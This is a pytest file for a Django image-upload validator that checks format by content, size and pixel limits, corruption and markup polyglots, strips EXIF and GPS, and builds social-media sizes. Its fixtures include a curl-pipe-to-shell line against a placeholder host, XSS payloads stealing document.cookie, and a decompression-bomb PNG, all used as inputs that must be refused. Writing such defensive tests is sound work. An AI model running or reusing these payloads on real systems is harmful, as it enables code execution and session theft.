"""Images: what an upload must be, the clean copy made of it, and the sizes platforms want."""

import io
import random
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import ExifTags, Image, PngImagePlugin

from common.images import ImageInfo, derivatives, inspect_image, reencode

RED = (255, 0, 0)
BLUE = (0, 0, 255)
PDF_BYTES = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SCRIPT_BYTES = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
SVG_BYTES = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
MARKUP = b"<html><body><script>alert(document.cookie)</script></body></html>"

NOT_AN_IMAGE = "Only JPEG, PNG, WebP and GIF images are accepted, and this file is none of them."
DAMAGED = "The image is damaged or incomplete, so it cannot be read."
HOLDS_MARKUP = (
    "The image also holds web page or script code, so it is not accepted. "
    "Save it again from an image editor and upload that copy."
)


def image_bytes(image: Image.Image, format_name: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=format_name, **options)
    return buffer.getvalue()


def halves(size=(40, 20)) -> Image.Image:
    """Red on the left, blue on the right: which way up it is shows in the pixels."""
    image = Image.new("RGB", size, BLUE)
    image.paste(RED, (0, 0, size[0] // 2, size[1]))
    return image


def photo_with_gps(orientation: int = 1) -> bytes:
    """A phone photo: EXIF with the place it was taken (Jakarta) and how to turn it."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "Ponsel"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = (6.0, 12.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (106.0, 49.0, 0.0)
    return image_bytes(halves(), "JPEG", exif=exif, quality=95)


def png(size=(40, 20), mode="RGB", **options) -> bytes:
    return image_bytes(Image.new(mode, size, (0, 128, 0)), "PNG", **options)


def noisy_jpeg() -> bytes:
    """A JPEG whose entropy-coded data is most of the file, so a cut lands inside it."""
    noise = random.Random(10).randbytes(64 * 64 * 3)
    return image_bytes(Image.frombytes("RGB", (64, 64), noise), "JPEG", quality=95)


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header (IHDR) declares another size, its checksum made to match."""
    content = bytearray(png())
    # Signature (8), then IHDR's length (4) and type (4): width and height follow.
    content[16:24] = struct.pack(">II", width, height)
    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    return bytes(content)


def upload(content: bytes, name: str = "gambar.jpg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="image/jpeg")


def refusal_of(content: bytes, name: str = "gambar.jpg") -> ValidationError:
    with pytest.raises(ValidationError) as refusal:
        inspect_image(upload(content, name))
    return refusal.value


# What is accepted


def test_inspect_image_photo_is_recognised_as_shown_upright():
    info = inspect_image(upload(photo_with_gps(orientation=6)))

    # Stored 40 by 20, turned a quarter by its EXIF: shown 20 wide and 40 high.
    assert info == ImageInfo(
        format="JPEG", content_type="image/jpeg", width=20, height=40, extension=".jpg"
    )


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(png(), ("PNG", "image/png", ".png"), id="png"),
        pytest.param(image_bytes(halves(), "WEBP"), ("WEBP", "image/webp", ".webp"), id="webp"),
        pytest.param(image_bytes(halves(), "GIF"), ("GIF", "image/gif", ".gif"), id="gif"),
    ],
)
def test_inspect_image_recognises_each_format_by_content_not_name(content, expected):
    # Every one is named .jpg: the name is never asked.
    info = inspect_image(upload(content, "gambar.jpg"))

    assert (info.format, info.content_type, info.extension) == expected
    assert (info.width, info.height) == (40, 20)


def test_inspect_image_puts_the_file_position_back():
    file = upload(photo_with_gps())
    file.seek(7)

    inspect_image(file)

    assert file.tell() == 7


def test_inspect_image_puts_the_file_position_back_after_a_refusal():
    file = upload(png() + MARKUP)
    file.seek(3)

    with pytest.raises(ValidationError):
        inspect_image(file)

    assert file.tell() == 3


# What is refused


@pytest.mark.parametrize(
    ("content", "name"),
    [
        pytest.param(SCRIPT_BYTES, "foto.jpg", id="script-named-jpg"),
        pytest.param(SVG_BYTES, "logo.svg", id="svg-with-script"),
        pytest.param(SVG_BYTES, "logo.png", id="svg-named-png"),
        pytest.param(PDF_BYTES, "poster.pdf", id="pdf"),
        pytest.param(image_bytes(halves(), "BMP"), "gambar.bmp", id="bmp-not-on-the-list"),
        pytest.param(image_bytes(halves(), "TIFF"), "gambar.jpg", id="tiff-named-jpg"),
    ],
)
def test_inspect_image_not_an_allowed_image_is_refused(content, name):
    refusal = refusal_of(content, name)

    assert refusal.code == "type"
    assert refusal.messages == [NOT_AN_IMAGE]


def test_inspect_image_empty_file_is_refused():
    refusal = refusal_of(b"")

    assert refusal.code == "empty"
    assert refusal.messages == ["The file is empty."]


def test_inspect_image_over_the_size_limit_is_refused(settings):
    settings.IMAGE_MAX_MB = 1
    content = png() + b"\0" * (1024 * 1024 + 1 - len(png()))

    refusal = refusal_of(content)

    assert refusal.code == "too_large"
    assert refusal.messages == ["The file is larger than 1 MB."]


def test_inspect_image_at_the_size_limit_is_accepted(settings):
    settings.IMAGE_MAX_MB = 1
    content = png() + b"\0" * (1024 * 1024 - len(png()))

    assert inspect_image(upload(content)).format == "PNG"


def test_inspect_image_decompression_bomb_is_refused():
    # 2.5 billion pixels declared by a file of a few dozen bytes; Pillow's own guard sees it first.
    refusal = refusal_of(png_claiming(50_000, 50_000))

    assert refusal.code == "too_many_pixels"
    assert refusal.messages == [
        "The image has more pixels than the 50 megapixels accepted. "
        "Make it smaller and upload it again."
    ]


def test_inspect_image_pixel_count_is_checked_from_the_header_before_decoding():
    # 64 megapixels: over our limit, under Pillow's. Decoding would find the pixel data missing
    # (a "corrupt" refusal); being refused for its pixel count shows nothing was decoded.
    refusal = refusal_of(png_claiming(8000, 8000))

    assert refusal.code == "too_many_pixels"


def test_inspect_image_pixel_limit_follows_the_settings(settings):
    settings.IMAGE_MAX_PIXELS = 1_500_000

    refusal = refusal_of(png(size=(1501, 1000)))

    assert refusal.code == "too_many_pixels"
    assert refusal.messages == [
        "The image has more pixels than the 1.5 megapixels accepted. "
        "Make it smaller and upload it again."
    ]
    assert inspect_image(upload(png(size=(1500, 1000)))).width == 1500


@pytest.mark.parametrize("pillow_limit", [700, 500], ids=["pillow-warns", "pillow-raises"])
def test_inspect_image_pillows_own_bomb_guard_becomes_the_same_refusal(
    settings, monkeypatch, pillow_limit
):
    # Our limit set above Pillow's: an 800-pixel image is over Pillow's warning (700) or its
    # error (twice 500). Either way a refusal, never a warning.
    settings.IMAGE_MAX_PIXELS = 10_000_000
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", pillow_limit)

    refusal = refusal_of(png(size=(40, 20)))

    assert refusal.code == "too_many_pixels"


def test_inspect_image_truncated_jpeg_is_refused():
    content = noisy_jpeg()

    refusal = refusal_of(content[: len(content) // 2])

    assert refusal.code == "corrupt"
    assert refusal.messages == [DAMAGED]


def test_inspect_image_corrupt_png_is_refused():
    content = bytearray(png(size=(64, 64)))
    idat = content.index(b"IDAT")
    content[idat + 6 : idat + 12] = b"\xff" * 6

    refusal = refusal_of(bytes(content))

    assert refusal.code == "corrupt"


def png_with_text(text: bytes) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode())
    return png(pnginfo=info)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(png() + MARKUP, id="html-after-the-png"),
        pytest.param(png_with_text(MARKUP), id="html-in-a-png-text-chunk"),
        pytest.param(png() + SVG_BYTES, id="svg-after-the-png"),
        pytest.param(
            image_bytes(halves(), "JPEG", comment=b"<svg onload=alert(1)>"),
            id="svg-in-a-jpeg-comment",
        ),
        pytest.param(
            image_bytes(halves(), "GIF") + b"<SCRIPT>alert(1)</SCRIPT>", id="gif-upper-case"
        ),
    ],
)
def test_inspect_image_polyglot_with_markup_is_refused(content):
    refusal = refusal_of(content)

    assert refusal.code == "markup"
    assert refusal.messages == [HOLDS_MARKUP]


def test_inspect_image_markup_split_across_read_chunks_is_found(settings):
    settings.IMAGE_MAX_MB = 3
    content = png()
    # The tag starts a few bytes before the first megabyte ends and finishes after it.
    content += b"\0" * (1024 * 1024 - len(content) - 3) + MARKUP

    assert refusal_of(content).code == "markup"


def test_inspect_image_refusals_speak_indonesian_by_default():
    with translation.override("id"):
        messages = [
            refusal_of(SCRIPT_BYTES).messages,
            refusal_of(png_claiming(50_000, 50_000)).messages,
            refusal_of(noisy_jpeg()[:1500]).messages,
            refusal_of(png() + MARKUP).messages,
        ]

    assert messages == [
        [
            "Hanya gambar JPEG, PNG, WebP, dan GIF yang diterima, dan berkas ini bukan "
            "salah satunya."
        ],
        [
            "Jumlah piksel gambar ini melebihi batas 50 megapiksel. "
            "Perkecil gambarnya, lalu unggah lagi."
        ],
        ["Gambar ini rusak atau tidak lengkap sehingga tidak dapat dibaca."],
        [
            "Gambar ini juga berisi kode halaman web atau skrip, jadi tidak diterima. "
            "Simpan ulang dari aplikasi pengolah gambar, lalu unggah salinan itu."
        ],
    ]


def test_inspect_image_pixel_limit_reads_the_indonesian_way(settings):
    settings.IMAGE_MAX_PIXELS = 1_500_000

    with translation.override("id"):
        messages = refusal_of(png(size=(1501, 1000))).messages

    assert messages == [
        "Jumlah piksel gambar ini melebihi batas 1,5 megapiksel. "
        "Perkecil gambarnya, lalu unggah lagi."
    ]


# The clean copy


def reencoded(content: bytes, name: str = "gambar.jpg") -> tuple[ImageInfo, bytes]:
    file = upload(content, name)
    info = inspect_image(file)
    return info, reencode(file, info).read()


def test_reencode_photo_drops_exif_and_gps_and_turns_it_upright():
    original = photo_with_gps(orientation=6)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    info, content = reencoded(original)

    image = Image.open(io.BytesIO(content))
    assert image.format == "JPEG"
    assert image.size == (info.width, info.height) == (20, 40)
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info
    assert b"Exif" not in content
    assert b"Ponsel" not in content
    # Turned a quarter clockwise: what was the left (red) half is now the top.
    assert _near(image.getpixel((10, 5)), RED)
    assert _near(image.getpixel((10, 35)), BLUE)


def test_reencode_png_drops_what_follows_the_image_data_and_text_chunks():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Humas Diskominfo")
    original = png(pnginfo=info) + b"PK\x03\x04 a zip hidden after the image" * 10

    image_info, content = reencoded(original, "gambar.png")

    assert image_info.format == "PNG"
    assert content.endswith(b"IEND\xaeB`\x82")
    assert b"PK\x03\x04" not in content
    assert b"Humas" not in content
    image = Image.open(io.BytesIO(content))
    assert image.size == (40, 20)
    assert image.getpixel((0, 0)) == (0, 128, 0)


def test_reencode_returns_a_file_named_by_its_format():
    file = upload(png(), "foto.jpg")

    copy = reencode(file, inspect_image(file))

    assert copy.name == "image.png"


def test_reencode_keeps_the_colour_profile():
    profile = b"\0" * 8 + b"not a real profile, but kept as it is"
    file = upload(image_bytes(halves(), "JPEG", icc_profile=profile))

    copy = reencode(file, inspect_image(file))

    assert Image.open(copy).info["icc_profile"] == profile


@pytest.mark.parametrize("format_name", ["WEBP", "GIF"])
def test_reencode_keeps_the_format(format_name):
    info, content = reencoded(image_bytes(halves(), format_name))

    image = Image.open(io.BytesIO(content))
    assert image.format == format_name == info.format
    assert image.size == (40, 20)


def test_reencode_animated_gif_keeps_the_first_frame():
    frames = [Image.new("P", (30, 30), index) for index in range(3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], comment=b"Hai")

    _, content = reencoded(buffer.getvalue(), "animasi.gif")

    image = Image.open(io.BytesIO(content))
    assert getattr(image, "n_frames", 1) == 1
    assert "comment" not in image.info


def test_reencode_keeps_a_palette_transparency():
    image = Image.new("P", (20, 20), 1)
    image.paste(0, (0, 0, 10, 20))

    _, content = reencoded(image_bytes(image, "PNG", transparency=0), "gambar.png")

    copy = Image.open(io.BytesIO(content)).convert("RGBA")
    assert copy.getpixel((0, 0))[3] == 0
    assert copy.getpixel((15, 0))[3] == 255


def test_reencode_puts_the_file_position_back():
    file = upload(photo_with_gps())
    info = inspect_image(file)
    file.seek(4)

    reencode(file, info)

    assert file.tell() == 4


# The sizes platforms want


def test_derivatives_have_exactly_the_promised_sizes():
    made = derivatives(upload(image_bytes(halves((960, 640)), "JPEG")))

    sizes = {name: Image.open(io.BytesIO(content)) for name, content in made.items()}
    assert {name: (image.format, image.size) for name, image in sizes.items()} == {
        "thumbnail.jpg": ("JPEG", (480, 320)),
        "square.jpg": ("JPEG", (1080, 1080)),
        "story.jpg": ("JPEG", (1080, 1920)),
        "link_card.jpg": ("JPEG", (1200, 630)),
    }


def test_derivatives_crop_around_the_centre():
    # Wider than a square: the crop keeps the middle, where red meets blue.
    made = derivatives(upload(image_bytes(halves((400, 100)), "PNG"), "gambar.png"))

    square = Image.open(io.BytesIO(made["square.jpg"]))
    assert _near(square.getpixel((100, 540)), RED)
    assert _near(square.getpixel((980, 540)), BLUE)


def test_derivatives_thumbnail_of_a_small_image_is_not_enlarged():
    made = derivatives(upload(photo_with_gps(orientation=6)))

    assert Image.open(io.BytesIO(made["thumbnail.jpg"])).size == (20, 40)
    assert Image.open(io.BytesIO(made["story.jpg"])).size == (1080, 1920)


def test_derivatives_with_transparency_are_png():
    image = Image.new("RGBA", (300, 300), (255, 0, 0, 0))
    image.paste((0, 0, 255, 255), (100, 100, 200, 200))

    made = derivatives(upload(image_bytes(image, "PNG"), "logo.png"))

    assert sorted(made) == ["link_card.png", "square.png", "story.png", "thumbnail.png"]
    square = Image.open(io.BytesIO(made["square.png"]))
    assert square.mode == "RGBA"
    assert square.getpixel((0, 0))[3] == 0


def test_derivatives_of_an_opaque_png_are_jpeg():
    image = Image.new("RGBA", (300, 300), (255, 0, 0, 255))

    made = derivatives(upload(image_bytes(image, "PNG"), "foto.png"))

    assert sorted(made) == ["link_card.jpg", "square.jpg", "story.jpg", "thumbnail.jpg"]


def test_derivatives_refuse_what_inspect_refuses():
    with pytest.raises(ValidationError) as refusal:
        derivatives(upload(png() + MARKUP))

    assert refusal.value.code == "markup"


def _near(pixel, colour, tolerance=40) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, colour, strict=True))
